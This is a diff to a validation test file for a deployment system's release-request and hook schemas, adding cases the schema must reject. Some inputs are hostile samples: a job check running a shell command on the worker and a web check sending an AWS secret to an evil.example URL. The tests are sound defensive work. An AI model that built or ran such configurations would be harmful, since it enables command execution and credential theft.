@@ -141,11 +141,106 @@ const cases: Case[] = [
     fragment: 'expected number to be >=1',
   },
   {
+    label: 'a job check in a release request (it would run a command on the worker)',
+    schema: releaseRequestSchema,
+    input: withPolicy({
+      canary: { analysis: { checks: [{ name: 'x', provider: { job: { command: ['/bin/sh', '-c', 'id'] } } }] } },
+    }),
+    path: 'policy.canary.analysis.checks.0.provider',
+    fragment: 'a release request may add Prometheus checks only',
+  },
+  {
+    label: 'a web check in a release request (it would send the worker’s secrets to a URL)',
+    schema: releaseRequestSchema,
+    input: withPolicy({
+      staging: {
+        smokeChecks: [
+          {
+            name: 'x',
+            provider: { web: { url: 'https://evil.example/', headers: { a: '${AWS_SECRET}' }, jsonPath: '$.v' } },
+            max: 1,
+          },
+        ],
+      },
+    }),
+    path: 'policy.staging.smokeChecks.0.provider',
+    fragment: 'a release request may add Prometheus checks only',
+  },
+  {
+    label: 'hooks in a release request',
+    schema: releaseRequestSchema,
+    input: withPolicy({ hooks: [{ name: 'x', at: 'before-staging', exec: { command: ['id'] } }] }),
+    path: 'policy',
+    fragment: 'Unrecognized key: "hooks"',
+  },
+  {
+    label: 'a hook with neither exec nor http',
+    schema: servicePolicySchema,
+    input: { ...service, hooks: [{ name: 'smoke', at: 'after-deploy' }] },
+    path: 'hooks.0.exec',
+    fragment: 'a hook runs exactly one of "exec" or "http"',
+  },
+  {
+    label: 'a hook at an unknown moment',
+    schema: servicePolicySchema,
+    input: { ...service, hooks: [{ name: 'smoke', at: 'sometime', exec: { command: ['./smoke'] } }] },
+    path: 'hooks.0.at',
+    fragment: 'before-staging',
+  },
+  {
+    label: 'tracks on a hook that is not after-deploy',
+    schema: servicePolicySchema,
+    input: { ...service, hooks: [{ name: 'x', at: 'before-canary', tracks: ['canary'], exec: { command: ['./x'] } }] },
+    path: 'hooks.0.tracks',
+    fragment: 'only an after-deploy hook takes "tracks"',
+  },
+  {
+    label: 'a hook calling plain http off this machine',
+    schema: servicePolicySchema,
+    input: { ...service, hooks: [{ name: 'x', at: 'before-canary', http: { url: 'http://cab.example.com/' } }] },
+    path: 'hooks.0.http.url',
+    fragment: 'expected an https URL',
+  },
+  {
+    label: 'credentials in a hook URL',
+    schema: servicePolicySchema,
+    input: { ...service, hooks: [{ name: 'x', at: 'before-canary', http: { url: 'https://u:p@cab.example.com/' } }] },
+    path: 'hooks.0.http.url',
+    fragment: 'credentials do not belong in the URL',
+  },
+  {
+    label: 'a hook command that is empty',
+    schema: servicePolicySchema,
+    input: { ...service, hooks: [{ name: 'x', at: 'before-canary', exec: { command: [] } }] },
+    path: 'hooks.0.exec.command',
+    fragment: 'expected the executable and its arguments',
+  },
+  {
+    label: 'a hook timeout past the activity budget',
+    schema: servicePolicySchema,
+    input: { ...service, hooks: [{ name: 'x', at: 'before-canary', exec: { command: ['./x'], timeout: '1h' } }] },
+    path: 'hooks.0.exec.timeout',
+    fragment: 'expected between 1s and 9m',
+  },
+  {
+    label: 'two hooks of one name',
+    schema: servicePolicySchema,
+    input: {
+      ...service,
+      hooks: [
+        { name: 'x', at: 'before-canary', exec: { command: ['./x'] } },
+        { name: 'x', at: 'after-promotion', exec: { command: ['./y'] } },
+      ],
+    },
+    path: 'hooks.1.name',
+    fragment: 'duplicate hook name "x"',
+  },
+  {
     label: 'check without template or query',
     schema: releaseRequestSchema,
     input: withPolicy({ canary: { analysis: { checks: [{ name: 'x', max: 1 }] } } }),
     path: 'policy.canary.analysis.checks.0.template',
-    fragment: 'a check needs a "template" or a "query"',
+    fragment: 'a check needs a "template", a "query" or a "provider"',
   },
   {
     label: 'check without max, min or baseline',
@@ -402,6 +497,7 @@ describe('valid input parses, with defaults applied', () => {
       production: { approval: true, waves: [{ percent: 100, bake: 0 }] },
       approvals: { fourEyes: false },
       windows: { allowed: [], freezes: [] },
+      hooks: [],
     });
   });
 
